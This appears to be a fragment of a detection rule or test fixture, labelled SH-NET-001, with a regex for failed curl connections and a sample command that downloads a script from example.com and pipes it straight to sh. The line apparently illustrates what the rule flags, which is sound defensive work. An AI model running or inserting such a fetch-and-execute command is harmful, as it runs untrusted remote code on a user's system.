# rule: SH-NET-001
# attempts: curl: \(\d+\) (Could not resolve host|Failed to connect|Couldn't connect)
curl -sS http://example.com/i.sh | tee /tmp/i.sh | sh
